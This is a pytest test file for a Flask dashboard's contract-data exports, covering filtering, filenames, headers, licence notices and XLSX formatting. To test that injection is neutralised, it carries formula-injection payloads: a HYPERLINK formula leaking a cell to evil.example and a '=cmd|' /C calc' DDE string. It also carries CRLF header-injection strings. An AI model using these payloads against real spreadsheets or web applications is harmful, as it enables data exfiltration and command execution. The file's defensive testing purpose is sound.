"""Exports through Flask's test client: exact rows, what the file is (name, HTTP headers, About
sheet), licence, injection, formats, errors; and that programs read the CSV with no options."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from urllib.parse import urlsplit

import duckdb
import openpyxl
import pandas as pd
import pytest
from members import member_client

from app import create_app
from dashboard import db, exports, xlsx
from dashboard.logic import contracts
from dashboard.logic import expiring as expiring_logic
from dashboard.queries import contracts as q
from dashboard.views import EXPORT_VIEWS, EXPORTS

BRENT = "E09000005"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\tTAB=1",
    "\rCR=1",
]


@pytest.fixture(autouse=True)
def _close_connections():
    yield
    db.close_all()


def split_csv(response) -> tuple[list[str], list[str], list[list[str]]]:
    """(what the file says of itself, header, rows) of a CSV export: the header is the first line,
    and the '# label: text' lines of old are now the HTTP headers."""
    table = list(csv.reader(io.StringIO(response.get_data().decode("utf-8"), newline="")))
    return notes_of(response), table[0], table[1:]


def notes_of(response) -> list[str]:
    """The X-CityTools-* headers as '# Label: text' lines (the words the CSV's notice lines had)."""
    labels = {"View": "View", "Filters": "Filters", "Scope": "Scope", "Data-As-Of": "Data as of",
              "Ignored": "Ignored"}  # fmt: skip
    out = [f"# {label}: {response.headers[f'X-CityTools-{h}']}" for h, label in labels.items()
           if f"X-CityTools-{h}" in response.headers]  # fmt: skip
    if 'rel="license"' in response.headers.get("Link", ""):
        out.append(f"# Licence: {exports.OGL}")
    if response.headers.get("X-CityTools-Sample") == "yes":
        out.append(f"# Warning: {exports.SAMPLE_WARNING}")
    return out


@pytest.fixture(scope="module")
def sample_client(sample_build):
    path, _ = sample_build
    return member_client(create_app(path)), path


def test_csv_export_of_a_borough_has_exactly_that_boroughs_rows(sample_client):
    client, path = sample_client
    response = client.get(f"/export/contracts.csv?borough={BRENT}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    notes, header, rows = split_csv(response)
    id_col = header.index("Contract id")
    with db.cursor(path) as c:
        expected = [
            cid
            for (cid,) in c.execute(
                "SELECT contract_id FROM contracts WHERE borough_code = ? ORDER BY end_date NULLS LAST, contract_id",
                [BRENT],
            ).fetchall()
        ]
    assert [r[id_col] for r in rows] == expected  # the same rows, in the view's (default) order
    assert {r[header.index("Borough")] for r in rows} == {"Brent"}
    assert "# Filters: Borough: Brent" in notes


def test_export_follows_the_views_sort(sample_client):
    client, path = sample_client
    _, header, rows = split_csv(client.get("/export/contracts.csv?sort=-annual_value,supplier"))
    with db.cursor(path) as c:
        view = list(q.contracts_rows(c, {}, q.parse_sort("-annual_value,supplier")))
    assert [r[header.index("Contract id")] for r in rows] == [r["contract_id"] for r in view]
    assert len(rows) == len(view) > 500  # the whole filtered set, not one page


def test_csv_notices_name_view_filters_and_as_of_date(sample_client):
    client, _ = sample_client
    notes, header, _ = split_csv(
        client.get(f"/export/contracts.csv?borough={BRENT}&borough=E09000007&source=survey&end_from=2026-01-01")
    )
    assert notes[0] == "# View: contracts"
    assert notes[1] == ("# Filters: Borough: Brent, Camden; Contract end from: 2026-01-01; Source: survey records")
    assert any(re.fullmatch(r"# Data as of: \d{4}-\d{2}-\d{2}", n) for n in notes)
    assert any(n.startswith("# Warning: Sample data") for n in notes)  # the sample says so
    assert not any("Open Government Licence" in n for n in notes)  # the sample is all survey data
    assert header[:3] == ["Borough", "Buyer", "Supplier"]


def test_unfiltered_export_says_so(sample_client):
    notes, _, _ = split_csv(sample_client[0].get("/export/contracts.csv"))
    assert notes[1].startswith("# Filters: none")


def test_ignored_parameters_are_listed(sample_client):
    notes, _, rows = split_csv(sample_client[0].get("/export/contracts.csv?borough=E09000099"))
    assert any(n.startswith("# Ignored: Borough:") for n in notes)
    assert len(rows) > 500


def test_licence_line_when_open_data_is_included(tiny_db):
    client = create_app(tiny_db).server.test_client()
    notes, _, rows = split_csv(client.get("/export/contracts.csv"))
    assert f"# Licence: {exports.OGL}" in notes
    assert len(rows) == 4
    notes, _, rows = split_csv(client.get("/export/contracts.csv?borough=E09000001"))  # survey only
    assert not any("Licence" in n for n in notes)
    assert len(rows) == 1


def test_filename_and_attachment(tiny_db):
    client = create_app(tiny_db).server.test_client()
    today = date.today().isoformat()
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/export/contracts.{fmt}")
        assert response.headers["Content-Disposition"] == f'attachment; filename="citytools-contracts-{today}.{fmt}"'


def test_unknown_view_or_format_is_404(tiny_db):
    client = create_app(tiny_db).server.test_client()
    assert client.get("/export/nope.csv").status_code == 404
    assert client.get("/export/contracts.pdf").status_code == 404


def test_missing_database_is_503(tmp_path):
    client = create_app(tmp_path / "none.duckdb").server.test_client()
    assert client.get("/export/contracts.csv").status_code == 503
    assert client.get("/export/contracts.xlsx").status_code == 503


def test_values_are_typed_in_csv(tiny_db):
    _, header, rows = split_csv(create_app(tiny_db).server.test_client().get("/export/contracts.csv?borough=E09000002"))
    (row,) = rows
    assert row[header.index("Annual value (£)")] == "250000"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row[header.index("End")])
    assert row[header.index("Sources")] == "contracts_finder, survey"
    records = row[next(i for i, h in enumerate(header) if h.startswith("Records"))]
    assert "survey: survey.xlsx#r-bd-survey" in records and "contracts_finder: notices.csv#r-bd-cf" in records


def test_xlsx_has_data_and_about_sheets(tiny_db, tmp_path):
    response = (
        create_app(tiny_db).server.test_client().get("/export/contracts.xlsx?borough=E09000002&borough=E09000003")
    )
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["Contracts", "About"]
    data = list(book["Contracts"].iter_rows(values_only=True))
    header, rows = data[0], data[1:]
    assert len(rows) == 3
    assert {r[header.index("Borough")] for r in rows} == {"Barking and Dagenham", "Barnet"}
    bd = next(r for r in rows if r[header.index("Borough")] == "Barking and Dagenham")
    assert bd[header.index("Annual value (£)")] == 250_000  # a number, not text
    assert bd[header.index("End")].year >= date.today().year  # a date
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["View"] == "contracts"
    assert about["Filters"] == "Borough: Barking and Dagenham, Barnet"
    assert about["Data as of"] == "2026-03-01"
    assert about["Licence"] == exports.OGL


@pytest.fixture
def injection_db(tmp_path, contracts_db_builder):
    specs = [{"supplier_name": text, "title": text, "buyer_name": "Camden Council"} for text in INJECTIONS]
    specs.append({"supplier_name": "Plain Ltd", "title": "Plain", "annual_value": -5.0})
    return contracts_db_builder(tmp_path / "inject.duckdb", specs)


def test_csv_neutralises_formula_cells(injection_db):
    client = create_app(injection_db).server.test_client()
    _, header, rows = split_csv(client.get("/export/contracts.csv"))
    suppliers = [r[header.index("Supplier")] for r in rows]
    titles = [r[header.index("Title")] for r in rows]
    for text in INJECTIONS:
        assert "'" + text in suppliers and "'" + text in titles
        assert text not in suppliers
    assert "Plain Ltd" in suppliers
    assert "-5" in [r[header.index("Annual value (£)")] for r in rows]  # a negative number stays a number


def test_hostile_filter_values_are_said_whole_in_json_and_inert_in_headers(injection_db):
    client = create_app(injection_db).server.test_client()
    hostile = [
        "=1+2",
        "x,=cmd|' /C calc'!A0",
        'x","=HYPERLINK(""http://evil.example"")',
        "a;=1|=3",
        "Caf\u00e9\r\nX: 1",
    ]
    response = client.get("/export/contracts.csv", query_string={"supplier": hostile})
    notes, header, rows = split_csv(response)
    assert rows == [] and header[0] == "Borough"  # no notice line before the header
    as_json = client.get("/export/contracts.json", query_string={"supplier": hostile}).get_json()
    assert as_json["filters"]["supplier"] == sorted([*hostile[:4], "Caf\u00e9 X: 1"])  # whole, as parsed
    assert all(h in as_json["filters_text"] for h in hostile[:4])
    filters = response.headers["X-CityTools-Filters"]
    assert filters.startswith("Supplier: =1+2") and "Cafe X: 1" in filters  # one ASCII line, accents dropped
    assert filters.isascii() and "\r" not in filters and "\n" not in filters


def test_header_text_is_one_neutralised_ascii_line():
    assert exports.header_text("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert exports.header_text("Camden\r\nSet-Cookie: x=1") == "Camden Set-Cookie: x=1"
    assert exports.header_text("Ca\u00f1ada \u4e2d") == "Canada ?"
    assert len(exports.header_text("x" * 5000)) == exports.MAX_HEADER


def test_xlsx_neutralises_formula_cells_and_writes_no_formulas(injection_db):
    client = create_app(injection_db).server.test_client()
    response = client.get("/export/contracts.xlsx", query_string={"supplier": "@SUM(1)"})
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = book["Contracts"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    (row,) = list(sheet.iter_rows(min_row=2, values_only=True))
    assert row[header.index("Supplier")] == "'@SUM(1)"
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["Filters"] == "Supplier: @SUM(1)"  # starts with "Supplier", so nothing to neutralise
    assert not [c for row in book["About"].iter_rows() for c in row if c.data_type == "f"]

    all_rows = openpyxl.load_workbook(io.BytesIO(client.get("/export/contracts.xlsx").get_data()))["Contracts"]
    # openpyxl leaves Excel's escape for a carriage return as it is; Excel reads it as \r
    cells = [c.value for row in all_rows.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    values = [v.replace("_x000D_", "\r") for v in cells]
    for text in INJECTIONS:
        assert "'" + text in values


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


def test_csv_cells_keep_numbers_and_dates_typed():
    assert exports.csv_cell(-3.5) == -3.5
    assert exports.csv_cell(46500.0) == 46500
    assert exports.csv_cell(date(2026, 1, 2)) == "2026-01-02"
    assert exports.csv_cell(None) == ""
    assert exports.csv_cell(True) == "yes"


def test_registry_keeps_views_table_functions():
    assert EXPORTS["contracts"] is contracts.contracts_table


# --------------------------------------------------------------------------- a table a program can read


@pytest.mark.parametrize("search", ["", f"?borough={BRENT}&sort=-annual_value"])
def test_programs_read_the_csv_with_no_options(sample_client, tmp_path, search):
    """pandas, DuckDB and the csv module each read the same header and rows, given no options at all."""
    client, _ = sample_client
    body = client.get(f"/export/contracts.csv{search}").get_data()
    columns = client.get(f"/export/contracts.json{search}").get_json()["columns"]
    path = tmp_path / "contracts.csv"
    path.write_bytes(body)
    frame = pd.read_csv(path)
    with duckdb.connect() as con:
        relation = con.sql(f"SELECT * FROM read_csv_auto('{path}')")
        duck_columns, duck_rows = relation.columns, len(relation.fetchall())
    with open(path, newline="") as f:
        table = list(csv.reader(f))
    assert list(frame.columns) == duck_columns == table[0] == columns
    assert len(frame) == duck_rows == len(table) - 1 > 0
    assert not body.startswith(b"\xef\xbb\xbf")  # no byte-order mark: the csv module and R keep it in a heading


def test_file_names_say_every_setting(sample_client):
    client, _ = sample_client
    today = date.today().isoformat()
    for fmt, disposition in (("csv", "attachment"), ("xlsx", "attachment"), ("json", "inline")):
        response = client.get(f"/export/expiring.{fmt}?borough=E09000007&months=18")
        expected = f'{disposition}; filename="citytools-expiring-18-months-camden-{today}.{fmt}"'
        assert response.headers["Content-Disposition"] == expected
    name = exports.filename("windows", "csv", {"window_months": 12, "group_by": "system", "end_from": "2026-01-01"})
    assert name == f"citytools-windows-12-window-months-group-by-system-from-2026-01-01-{today}.csv"
    many = {"borough": ["E09000001", "E09000002", "E09000003"], "scope": "all", "source": "open_data"}
    assert exports.filename("contracts", "csv", many).startswith("citytools-contracts-3-boroughs-open-data-scope-all")


def test_a_long_file_name_is_cut_and_keeps_a_hash_of_its_settings():
    one = exports.filename("contracts", "csv", {"supplier": ["A" * 90 + " Ltd", "B" * 90]}, date(2026, 1, 2))
    two = exports.filename("contracts", "csv", {"supplier": ["A" * 90 + " Ltd", "C" * 90]}, date(2026, 1, 2))
    assert one != two and len(one) <= exports.MAX_NAME + len("-2026-01-02.csv")
    assert re.fullmatch(r"[a-z0-9-]+-2026-01-02\.csv", one)


def test_default_settings_are_said_in_words(sample_client):
    response = sample_client[0].get("/export/expiring.csv")
    said = response.headers["X-CityTools-Filters"]
    assert f"Ending within (months): {expiring_logic.DEFAULT_MONTHS} (default)" in said
    chosen = sample_client[0].get("/export/expiring.csv?months=18").headers["X-CityTools-Filters"]
    assert "Ending within (months): 18" in chosen and "(default)" not in chosen


def _links(response) -> dict[str, str]:
    """rel -> URL of a Link header."""
    found = re.findall(r'<([^>]+)>; rel="([^"]+)"', response.headers["Link"])
    return {rel: url for url, rel in found}


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_link_header_points_to_the_view_that_shows_these_rows(sample_client, name):
    client, _ = sample_client
    search = "?borough=E09000007&scope=all"
    response = client.get(f"/export/{name}.csv{search}")
    links = _links(response)
    view = urlsplit(links["alternate"])
    assert view.scheme == "http" and view.netloc == "localhost"  # absolute: it works in a file passed on
    view_obj = EXPORT_VIEWS[name]
    expected = view_obj.parse(search)
    if "<code>" in view_obj.path:
        assert view.path == "/borough/E09000007"
        expected.pop("borough")
    assert view_obj.parse(view.query) == expected
    assert links["describedby"] == f"http://localhost/export/{name}.json{view_obj.search(view_obj.parse(search))}"
    assert "license" not in links  # the sample surveys are not open data


def test_licence_link_when_open_data_is_included(tiny_db):
    client = create_app(tiny_db).server.test_client()
    assert _links(client.get("/export/contracts.csv"))["license"] == exports.OGL_URL
    assert "license" not in _links(client.get("/export/contracts.csv?borough=E09000001"))  # survey only


def test_xlsx_data_sheet_filters_freezes_and_formats(tiny_db):
    response = create_app(tiny_db).server.test_client().get("/export/contracts.xlsx?scope=all")
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = book["Contracts"]
    header = [c.value for c in sheet[1]]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}{sheet.max_row}"
    money = header.index("Annual value (£)") + 1
    valued = [sheet.cell(i, money) for i in range(2, sheet.max_row + 1) if sheet.cell(i, money).value is not None]
    assert valued and all(c.number_format == xlsx.MONEY for c in valued)
    end = sheet.cell(2, header.index("End") + 1)
    assert end.is_date and end.number_format == xlsx.DAY
    widths = {i: d.width for d in sheet.column_dimensions.values() for i in range(d.min, d.max + 1)}
    assert widths[header.index("Title") + 1] > widths[header.index("End") + 1] >= 8  # 1-based, as openpyxl counts
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["Link"] == "http://localhost/contracts?scope=all"
    assert about["Licence link"] == exports.OGL_URL and about["Database built"] == "2026-03-05T10:15:00"
    assert about["Warning"] == exports.SAMPLE_WARNING and about["Scope"].startswith("all contracts")


def test_money_columns_are_found_by_their_heading():
    assert exports.is_money("Annual value (£)") and exports.is_money("Annual value (GBP)")
    assert exports.is_money("Annual value") and exports.is_money("Total annual value (£)")
    assert not exports.is_money("Share of annual value") and not exports.is_money("Contracts with a value")
